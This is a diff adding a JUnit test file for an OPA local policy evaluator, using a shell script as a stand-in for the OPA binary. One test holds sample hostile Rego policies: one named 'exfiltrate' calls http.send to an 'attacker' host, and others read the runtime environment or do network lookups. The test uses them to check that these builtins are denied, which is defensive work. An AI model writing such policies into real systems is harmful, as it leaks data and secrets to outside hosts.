@@ -0,0 +1,200 @@
+package org.eclipse.xpanse.modules.policy.opa;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.io.File;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.Collections;
+import java.util.List;
+import java.util.concurrent.Callable;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.Future;
+import org.eclipse.xpanse.modules.models.policy.exceptions.PoliciesValidationFailedException;
+import org.eclipse.xpanse.modules.models.system.enums.HealthStatus;
+import org.eclipse.xpanse.modules.policy.policyman.generated.model.EvalResult;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.condition.DisabledOnOs;
+import org.junit.jupiter.api.condition.OS;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * Test of OpaLocalPolicyEvaluator with a script which stands in for the OPA executable. The
+ * script builds a bundle by copying the policy, allows the input with the bundles setting
+ * 'allow := true' and logs its commands. Like
+ * OPA, it rejects the policies calling builtins missing in the capabilities file, and it fails
+ * when it inherits the environment of the test.
+ */
+@DisabledOnOs(OS.WINDOWS)
+class OpaLocalPolicyEvaluatorTest {
+
+    private static final String ALLOW_POLICY = "package allow_all\n\nallow := true\n";
+    private static final String DENY_POLICY = "package deny_all\n\nallow := false\n";
+    private static final String INPUT = "{\"resources\":[]}";
+    private static final String OPA_SCRIPT = """
+            #!/bin/sh
+            if [ -n "$HOME" ]; then echo "environment inherited" >&2; exit 1; fi
+            command="$1"; shift
+            echo "$command" >> "$(dirname "$0")/commands.log"
+            bundles=""
+            while [ $# -gt 0 ]; do
+              case "$1" in
+                --capabilities) capabilities="$2"; shift 2 ;;
+                --bundle) bundles="${bundles:+$bundles }$2"; shift 2 ;;
+                --output) output="$2"; shift 2 ;;
+                --input) shift 2 ;;
+                --format) shift 2 ;;
+                --current) shift ;;
+                *) shift ;;
+              esac
+            done
+            case "$command" in
+              version) echo "Version: 0.68.0" ;;
+              capabilities) echo '{"builtins":[{"name":"eq"},{"name":"http.send"},\
+            {"name":"net.lookup_ip_addr"},{"name":"opa.runtime"}]}' ;;
+              build) [ -f "$capabilities" ] || exit 1
+                     [ -f "$bundles/.manifest" ] || exit 1
+                     policy="$bundles/policy.rego"
+                     if grep -q "invalid" "$policy"; then echo "rego_parse_error" >&2; exit 1; fi
+                     for builtin in http.send net.lookup_ip_addr opa.runtime; do
+                       if grep -q "$builtin(" "$policy" \
+                           && ! grep -qF "$builtin" "$capabilities"; then
+                         echo "rego_type_error: undefined function $builtin" >&2; exit 1
+                       fi
+                     done
+                     cp "$policy" "$output" ;;
+              eval) [ -f "$capabilities" ] || exit 1
+                    decisions=""
+                    for bundle in $bundles; do
+                      if grep -q "allow := true" "$bundle"; then decision="[true]"
+                      else decision="[]"; fi
+                      decisions="${decisions:+$decisions,}$decision"
+                    done
+                    echo '{"result":[{"expressions":[{"value":['"$decisions"']}]}]}' ;;
+            esac
+            """;
+
+    @TempDir
+    private Path tempDirectory;
+    private Path policiesDirectory;
+    private OpaLocalPolicyEvaluator opaLocalPolicyEvaluator;
+
+    @BeforeEach
+    void setUp() throws Exception {
+        Path opaExecutable = tempDirectory.resolve("opa");
+        Files.writeString(opaExecutable, OPA_SCRIPT);
+        assertTrue(opaExecutable.toFile().setExecutable(true));
+        policiesDirectory = tempDirectory.resolve("policies");
+        opaLocalPolicyEvaluator = new OpaLocalPolicyEvaluator(opaExecutable.toString(), "allow",
+                policiesDirectory.toString(), 10);
+    }
+
+    @Test
+    void testGetStatus() {
+        assertEquals(HealthStatus.OK, opaLocalPolicyEvaluator.getStatus().getHealthStatus());
+    }
+
+    @Test
+    void testEvaluatePolicies() throws Exception {
+        EvalResult allowed =
+                opaLocalPolicyEvaluator.evaluatePolicies(List.of(ALLOW_POLICY), INPUT);
+        EvalResult denied = opaLocalPolicyEvaluator.evaluatePolicies(
+                List.of(ALLOW_POLICY, DENY_POLICY), INPUT);
+
+        assertTrue(allowed.getIsSuccessful());
+        assertFalse(denied.getIsSuccessful());
+        assertEquals(DENY_POLICY, denied.getPolicy());
+        // each policy is built once and all policies are evaluated together.
+        List<String> commands = Files.readAllLines(tempDirectory.resolve("commands.log"));
+        assertEquals(List.of("capabilities", "build", "eval", "build", "eval"), commands);
+        // the input files are removed after the evaluations.
+        File[] inputFiles = policiesDirectory.toFile()
+                .listFiles((dir, name) -> name.startsWith("input-"));
+        assertEquals(0, inputFiles.length);
+    }
+
+    @Test
+    void testEvaluatePoliciesWithOverlappingPackages() throws Exception {
+        String sharedAllowPolicy = "package shared\n\nallow := true\n";
+        String sharedDenyPolicy = "package shared\n\nallow := false\n";
+        String nestedAllowPolicy = "package shared.nested\n\nallow := true\n";
+
+        EvalResult result = opaLocalPolicyEvaluator.evaluatePolicies(
+                List.of(sharedAllowPolicy, nestedAllowPolicy, sharedDenyPolicy, ALLOW_POLICY),
+                INPUT);
+
+        assertFalse(result.getIsSuccessful());
+        assertEquals(sharedDenyPolicy, result.getPolicy());
+        // the bundles with overlapping roots are not loaded into the same evaluation.
+        List<String> commands = Files.readAllLines(tempDirectory.resolve("commands.log"));
+        assertEquals(3, commands.stream().filter("eval"::equals).count());
+    }
+
+    @Test
+    void testValidatePolicy() {
+        opaLocalPolicyEvaluator.validatePolicy(ALLOW_POLICY);
+
+        assertThrows(PoliciesValidationFailedException.class,
+                () -> opaLocalPolicyEvaluator.validatePolicy("package invalid\n\nallow :="));
+        assertThrows(PoliciesValidationFailedException.class,
+                () -> opaLocalPolicyEvaluator.validatePolicy("allow := true"));
+    }
+
+    @Test
+    void testEvaluatePoliciesConcurrently() throws Exception {
+        List<Callable<EvalResult>> evaluations = Collections.nCopies(8,
+                () -> opaLocalPolicyEvaluator.evaluatePolicies(List.of(ALLOW_POLICY), INPUT));
+        try (ExecutorService executorService = Executors.newFixedThreadPool(8)) {
+            for (Future<EvalResult> result : executorService.invokeAll(evaluations)) {
+                assertTrue(result.get().getIsSuccessful());
+            }
+        }
+
+        // the policy is built once and only its bundle is left.
+        List<String> commands = Files.readAllLines(tempDirectory.resolve("commands.log"));
+        assertEquals(1, commands.stream().filter("build"::equals).count());
+        File[] policyFiles = policiesDirectory.toFile().listFiles((dir, name) ->
+                !name.equals("capabilities.json") && !name.startsWith("input-"));
+        assertEquals(1, policyFiles.length);
+        assertTrue(policyFiles[0].getName().endsWith(".tar.gz"));
+    }
+
+    @Test
+    void testValidateInvalidPolicyLeavesNoFile() {
+        assertThrows(PoliciesValidationFailedException.class,
+                () -> opaLocalPolicyEvaluator.validatePolicy("package invalid\n\nallow :="));
+
+        File[] policyFiles = policiesDirectory.toFile()
+                .listFiles((dir, name) -> !name.equals("capabilities.json"));
+        assertEquals(0, policyFiles.length);
+    }
+
+    @Test
+    void testValidatePolicyWithDeniedBuiltins() throws Exception {
+        String httpPolicy = """
+                package exfiltrate
+
+                allow := http.send({"method": "get", "url": "http://attacker"}).status_code == 200
+                """;
+        String runtimePolicy = "package runtime\n\nallow := count(opa.runtime().env) > 0\n";
+        String netPolicy = "package net\n\nallow := count(net.lookup_ip_addr(\"a\")) > 0\n";
+
+        for (String policy : List.of(httpPolicy, runtimePolicy, netPolicy)) {
+            PoliciesValidationFailedException exception = assertThrows(
+                    PoliciesValidationFailedException.class,
+                    () -> opaLocalPolicyEvaluator.validatePolicy(policy));
+            assertTrue(exception.getMessage().contains("undefined function"));
+        }
+        String capabilities =
+                Files.readString(policiesDirectory.resolve("capabilities.json"));
+        assertTrue(capabilities.contains("\"eq\""));
+        assertFalse(capabilities.contains("http.send"));
+        assertFalse(capabilities.contains("opa.runtime"));
+        assertFalse(capabilities.contains("net."));
+    }
+}